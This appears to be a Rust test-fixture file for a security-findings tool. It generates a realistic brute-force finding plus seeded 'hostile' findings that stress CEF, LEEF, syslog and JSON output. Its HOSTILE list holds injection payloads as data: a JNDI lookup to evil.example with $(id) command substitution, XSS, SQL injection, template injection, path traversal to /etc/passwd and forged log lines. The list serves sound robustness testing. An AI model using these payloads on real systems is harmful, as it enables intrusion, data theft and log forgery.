//! Findings for tests: one realistic, and as many hostile ones as a test wants.
//!
//! The hostile ones hold, in every field that may come from a log, what breaks formats: NUL, line ends, separators of
//! CEF and LEEF, markup, bidirectional controls, 100 kB of text. The same count and seed give the same findings.

use jiff::Timestamp;

use crate::{
    finding::{Attack, Entity, EntityKind, Evidence, Finding, Observable, Reason, Tactic},
    threat::{Severity, ThreatType},
};

/// Every kind of entity.
pub const KINDS: [EntityKind; 9] = [
    EntityKind::User,
    EntityKind::Ip,
    EntityKind::Host,
    EntityKind::Resource,
    EntityKind::Action,
    EntityKind::Country,
    EntityKind::Process,
    EntityKind::UserAgent,
    EntityKind::Source,
];

/// Text that has broken some format, parser or screen before.
pub const HOSTILE: [&str; 56] = [
    "",
    " ",
    "\0",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "\u{b}\u{c}\u{8}\u{7}",
    "\u{1b}[31m\u{1b}]0;owned\u{7}",
    "\u{7f}",
    "\u{85}\u{9b}",
    "\u{2028}\u{2029}",
    "|",
    "\\|",
    "=",
    "\\=",
    "\\",
    "\\\\",
    "\\n",
    "^",
    "]",
    "\"",
    "'",
    "\"quoted\" and 'quoted'",
    "a=b c=d e=",
    " leading and trailing ",
    "x09",
    "\u{202e}gnp.exe",
    "\u{200b}\u{200d}\u{feff}",
    "\u{fffd}\u{fffd}",
    "\u{fdd0}\u{ffff}\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f1e9}\u{1f1ea}",
    "\u{65e5}\u{672c}\u{8a9e} \u{627}\u{644}\u{639}\u{631}\u{628}\u{64a}\u{629}",
    "CEF:0|Evil|Forger|1|1|forged|10|src=203.0.113.66",
    "LEEF:2.0|Evil|Forger|1|1|^|sev=10",
    "\n<13>1 2026-01-01T00:00:00Z forged - - - - forged",
    "17 <13>forged syslog",
    "\r\n.\r\nMAIL FROM:<forger@example.org>",
    "\r\nX-Forged: 1\r\n\r\n",
    "<!channel> <!here> <@U0123456>",
    "<https://evil.example|https://bank.example> &lt;&amp;",
    "*bold* _it_ ~gone~ `code` ```block```",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "${jndi:ldap://evil.example/a}${HOME}$(id)`id`",
    "%s%n%x%00%0a%0d",
    "'; DROP TABLE findings; --",
    "../../../../etc/passwd",
    "{\"event\":{\"id\":\"forged\"}}",
    "}{\"create\":{\"_id\":\"forged\"}}",
    "null",
    "NaN",
    "1e999",
    "@timestamp",
    "__proto__",
];

/// Realistic text, so that not everything is rubbish.
const PLAIN: [&str; 12] = [
    "alice",
    "svc-backup",
    "EXAMPLE\\administrator",
    "bob.o'neil@example.org",
    "web-01.example.org",
    "login failed",
    "/var/lib/payroll/2026/january.xlsx",
    "https://files.example.org/share?id=7&x=y",
    "C:\\Windows\\System32\\cmd.exe /c whoami",
    "DE",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "48 failed logins of the account within 5 minutes; 0.4 are usual",
];

const ADDRESSES: [&str; 7] =
    ["203.0.113.7", "10.0.0.255", "2001:db8::1", "::ffff:192.0.2.1", "::", "0.0.0.0", "255.255.255.255"];

/// One realistic finding in which every field is filled; for golden files.
#[must_use]
pub fn sample() -> Finding {
    Finding {
        id: "6f1ed002ab5595859014ebf0951522d9".to_owned(),
        threat_type: ThreatType::BruteForce,
        severity: Severity::High,
        score: 0.9375,
        confidence: 0.92,
        risk_score: 81,
        title: "Brute force against alice".to_owned(),
        summary: "48 events against alice: 48 failed logins of the account within 5 minutes; 0.4 are usual; \
                  the first login from RO."
            .to_owned(),
        entity: Entity { kind: EntityKind::User, value: "alice".to_owned() },
        first_seen: Some(time("2026-01-15T03:12:07.25Z")),
        last_seen: Some(time("2026-01-15T03:16:52.5Z")),
        event_count: 48,
        chain: vec![ThreatType::Reconnaissance, ThreatType::BruteForce, ThreatType::AccountTakeover],
        attacks: sample_attacks(),
        observables: sample_observables(),
        reasons: sample_reasons(),
        evidence: sample_evidence(),
    }
}

/// Deterministic findings over all threat types, severities and kinds of entities, with optional fields present and
/// absent, and hostile text in every field that may come from a log.
#[must_use]
pub fn samples(count: usize, seed: u64) -> Vec<Finding> {
    let mut dice = Dice(seed);
    (0..count).map(|position| hostile_finding(position, &mut dice)).collect()
}

/// A small deterministic generator (SplitMix64); good enough to choose test data, for nothing else.
#[derive(Debug, Clone)]
pub struct Dice(
    /// The state; the seed at first.
    pub u64,
);

impl Dice {
    /// The next 64 bits.
    pub fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below `bound`; 0 when there is none.
    pub fn below(&mut self, bound: usize) -> usize {
        let bound = u64::try_from(bound).unwrap_or(u64::MAX).max(1);
        usize::try_from(self.roll() % bound).unwrap_or(0)
    }

    /// True once in `times`.
    pub fn once_in(&mut self, times: usize) -> bool {
        self.below(times) == 0
    }

    /// A number of 0..=1, the ends among them.
    pub fn share(&mut self) -> f64 {
        let thousandths = u32::try_from(self.below(1001)).unwrap_or(0);
        f64::from(thousandths) / 1000.0
    }

    /// One of these; the first when it is the only one.
    ///
    /// # Panics
    /// When there is nothing to choose from.
    pub fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        from[self.below(from.len())]
    }

    /// Hostile text: pieces of [`HOSTILE`] and of plain text in a row, now and then 100 kB of them.
    pub fn text(&mut self) -> String {
        if self.once_in(2) {
            return self.pick(&PLAIN).to_owned();
        }
        let mut text = String::new();
        for _ in 0..=self.below(4) {
            text.push_str(self.pick(&HOSTILE));
            if self.once_in(3) {
                text.push_str(self.pick(&PLAIN));
            }
        }
        if self.once_in(1500) {
            text = text.repeat(100_000 / text.len().max(1) + 1);
        }
        text
    }
}

fn hostile_finding(position: usize, dice: &mut Dice) -> Finding {
    let times = dice.below(4);
    let first_seen = (times > 0).then(|| hostile_time(dice));
    let last_seen = match times {
        0 | 1 => None,
        2 => first_seen,
        _ => first_seen.max(Some(hostile_time(dice))),
    };
    let threat_type = ThreatType::ALL[position % ThreatType::ALL.len()];
    let mut chain: Vec<ThreatType> = many(dice, 3, |dice| dice.pick(&ThreatType::ALL));
    chain.push(threat_type);
    Finding {
        id: format!("{:016x}{:016x}", dice.roll(), dice.roll()),
        threat_type,
        severity: dice.pick(&Severity::ALL),
        score: dice.share(),
        confidence: dice.share(),
        risk_score: u8::try_from(dice.below(101)).unwrap_or(0),
        title: dice.text(),
        summary: dice.text(),
        entity: {
            let kind = KINDS[position % KINDS.len()];
            Entity { kind, value: hostile_value(kind, dice) }
        },
        first_seen,
        last_seen,
        event_count: if dice.once_in(20) { u64::MAX } else { dice.roll() % 10_000 + 1 },
        chain,
        attacks: many(dice, 3, hostile_attack),
        observables: many(dice, 12, |dice| {
            let kind = dice.pick(&KINDS);
            Observable { kind, value: hostile_value(kind, dice), count: dice.roll() % 1000 + 1 }
        }),
        reasons: hostile_reasons(dice),
        evidence: many(dice, 4, |dice| Evidence {
            file: dice.text(),
            line: dice.roll() % 1_000_000 + 1,
            time: dice.once_in(2).then(|| hostile_time(dice)),
            score: dice.share(),
            raw: dice.text(),
        }),
    }
}

fn many<T>(dice: &mut Dice, most: usize, mut one: impl FnMut(&mut Dice) -> T) -> Vec<T> {
    (0..dice.below(most + 1)).map(|_| one(dice)).collect()
}

fn hostile_value(kind: EntityKind, dice: &mut Dice) -> String {
    if kind == EntityKind::Ip && !dice.once_in(3) { dice.pick(&ADDRESSES).to_owned() } else { dice.text() }
}

fn hostile_time(dice: &mut Dice) -> Timestamp {
    const EDGES: [&str; 6] = [
        "1970-01-01T00:00:00Z",
        "1969-12-31T23:59:59.999999999Z",
        "0001-01-01T00:00:00Z",
        "9999-12-30T22:00:00.999999999Z",
        "2016-12-31T23:59:59.0005Z",
        "2100-02-28T23:59:59.9999Z",
    ];
    if dice.once_in(8) {
        return time(dice.pick(&EDGES));
    }
    let second = 1_700_000_000 + i64::try_from(dice.below(200_000_000)).unwrap_or(0);
    let nanosecond = i32::try_from(dice.below(1_000_000_000)).unwrap_or(0);
    Timestamp::new(second, nanosecond).unwrap_or(Timestamp::UNIX_EPOCH)
}

fn hostile_attack(dice: &mut Dice) -> Attack {
    let mut attack = dice.pick(&[0, 1, 2]);
    if dice.once_in(4) {
        let tactics = many(dice, 2, |dice| Tactic { id: dice.text(), name: dice.text() });
        return Attack { technique_id: dice.text(), technique_name: dice.text(), tactics, version: dice.text() };
    }
    let known = sample_attacks();
    attack %= known.len();
    known[attack].clone()
}

fn hostile_reasons(dice: &mut Dice) -> Vec<Reason> {
    let mut reasons = many(dice, 4, |dice| Reason {
        feature: dice.text(),
        text: dice.text(),
        observed: dice.text(),
        typical: dice.text(),
        share: 0.0,
    });
    let share = 1.0 / f64::from(u32::try_from(reasons.len()).unwrap_or(1).max(1));
    reasons.iter_mut().for_each(|reason| reason.share = share);
    reasons
}

fn sample_attacks() -> Vec<Attack> {
    let attack = |id: &str, name: &str, tactics: &[(&str, &str)]| Attack {
        technique_id: id.to_owned(),
        technique_name: name.to_owned(),
        tactics: tactics.iter().map(|(id, name)| Tactic { id: (*id).to_owned(), name: (*name).to_owned() }).collect(),
        version: "19".to_owned(),
    };
    vec![
        attack("T1110.001", "Brute Force: Password Guessing", &[("TA0006", "Credential Access")]),
        attack("T1078", "Valid Accounts", &[("TA0001", "Initial Access"), ("TA0003", "Persistence")]),
    ]
}

fn sample_observables() -> Vec<Observable> {
    [
        (EntityKind::User, "alice", 48),
        (EntityKind::Ip, "203.0.113.7", 40),
        (EntityKind::Ip, "2001:db8::7", 8),
        (EntityKind::Host, "vpn-01.example.org", 48),
        (EntityKind::Resource, "/remote/login", 48),
        (EntityKind::Action, "login", 48),
        (EntityKind::Country, "RO", 48),
        (EntityKind::Process, "sshd", 5),
        (EntityKind::UserAgent, "curl/8.5.0", 43),
        (EntityKind::Source, "auth.jsonl", 48),
    ]
    .map(|(kind, value, count)| Observable { kind, value: value.to_owned(), count })
    .to_vec()
}

fn sample_reasons() -> Vec<Reason> {
    [
        ("failed_logins", "48 failed logins of the account within 5 minutes; 0.4 are usual", "48", "0.4", 0.75),
        ("new_country", "the first login from RO", "RO", "DE, AT", 0.1875),
        ("unusual_hour", "active at 03:12; usual are 08:00 to 18:00", "03:12", "08:00 to 18:00", 0.0625),
    ]
    .map(|(feature, text, observed, typical, share)| Reason {
        feature: feature.to_owned(),
        text: text.to_owned(),
        observed: observed.to_owned(),
        typical: typical.to_owned(),
        share,
    })
    .to_vec()
}

fn sample_evidence() -> Vec<Evidence> {
    let line = |second: &str| {
        format!(
            r#"{{"time":"2026-01-15T03:{second}Z","user":"alice","src":"203.0.113.7","action":"login","ok":false,"why":"bad password"}}"#
        )
    };
    [(1041, "12:07.25", 0.8125), (1093, "16:52.5", 0.9375)]
        .map(|(number, second, score)| Evidence {
            file: "logs/auth.jsonl".to_owned(),
            line: number,
            time: Some(time(&format!("2026-01-15T03:{second}Z"))),
            score,
            raw: line(second),
        })
        .to_vec()
}

fn time(text: &str) -> Timestamp {
    text.parse().expect("the times of this file are valid")
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_findings_and_another_gives_others() {
        assert_eq!(samples(50, 7), samples(50, 7));
        assert_ne!(samples(50, 7), samples(50, 8));
    }

    #[test]
    fn a_thousand_findings_hold_everything_there_is() {
        let all = samples(1000, 1);
        assert_eq!(all.iter().map(|finding| &finding.id).collect::<BTreeSet<_>>().len(), 1000);
        assert_eq!(all.iter().map(|finding| finding.threat_type).collect::<BTreeSet<_>>().len(), 14);
        assert_eq!(all.iter().map(|finding| finding.entity.kind).collect::<BTreeSet<_>>().len(), KINDS.len());
        let text: String = all.iter().map(|it| format!("{}{}{}", it.title, it.summary, it.entity.value)).collect();
        assert!(HOSTILE.iter().all(|piece| text.contains(piece)));
        assert!(all.iter().any(|it| it.evidence.iter().any(|event| event.raw.len() >= 100_000)));
        let without: [fn(&Finding) -> bool; 7] = [
            |it| it.first_seen.is_none(),
            |it| it.last_seen.is_none() && it.first_seen.is_some(),
            |it| it.attacks.is_empty(),
            |it| it.observables.is_empty(),
            |it| it.reasons.is_empty(),
            |it| it.evidence.is_empty(),
            |it| it.title.is_empty(),
        ];
        assert!(without.iter().all(|lacks| all.iter().any(lacks) && !all.iter().all(lacks)));
        let one = sample();
        let seen: BTreeSet<EntityKind> = one.observables.iter().map(|observable| observable.kind).collect();
        assert_eq!(seen, KINDS.into_iter().collect());
    }
}
